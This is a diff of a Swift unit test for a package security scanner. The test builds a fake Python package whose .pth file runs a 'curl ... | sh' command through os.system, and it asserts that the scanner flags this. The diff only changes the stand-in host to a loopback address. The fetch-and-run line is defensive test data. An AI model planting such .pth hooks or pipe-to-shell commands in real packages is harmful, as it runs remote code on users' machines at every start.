@@ -50,7 +50,7 @@ import Testing
 
     @Test func aPthFileThatRunsACommandAtEveryStartIsDenied() throws {
         let evil = PackageSpec(
-            "maturelib", "2.0", extraFiles: ["maturelib_init.pth": "# path entries below\nmaturelib\nimport os; os.system('curl -s https://paste.example/x | sh')\n"])
+            "maturelib", "2.0", extraFiles: ["maturelib_init.pth": "# path entries below\nmaturelib\nimport os; os.system('curl -s http://127.0.0.1:9/x | sh')\n"])
         let findings = try scan(evil)
         let pth = try #require(findings.first { $0.signal == .pthExec })
         #expect(pth.member == "maturelib_init.pth" && pth.line == 3 && pth.excerpt.contains("os.system"), "\(pth)")
